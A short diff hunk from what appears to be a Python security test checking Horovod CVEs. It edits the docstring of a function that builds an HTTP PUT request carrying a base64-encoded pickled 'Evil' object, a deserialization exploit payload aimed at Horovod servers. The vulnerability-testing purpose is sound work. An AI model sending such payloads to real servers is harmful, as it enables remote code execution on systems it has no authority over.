@@ -318,7 +318,7 @@ class Evil:
 
 
 def put(path):
-    """As the holes of Horovod's servers are attacked, see tests/python/horovod_cves_check.py."""
+    """The request that attacks Horovod's servers: see tests/python/horovod_cves_check.py."""
     body = base64.b64encode(pickle.dumps(Evil()))
     return f'PUT {path} HTTP/1.1\r\nHost: n1\r\nContent-Length: {len(body)}\r\n\r\n'.encode() + body
 
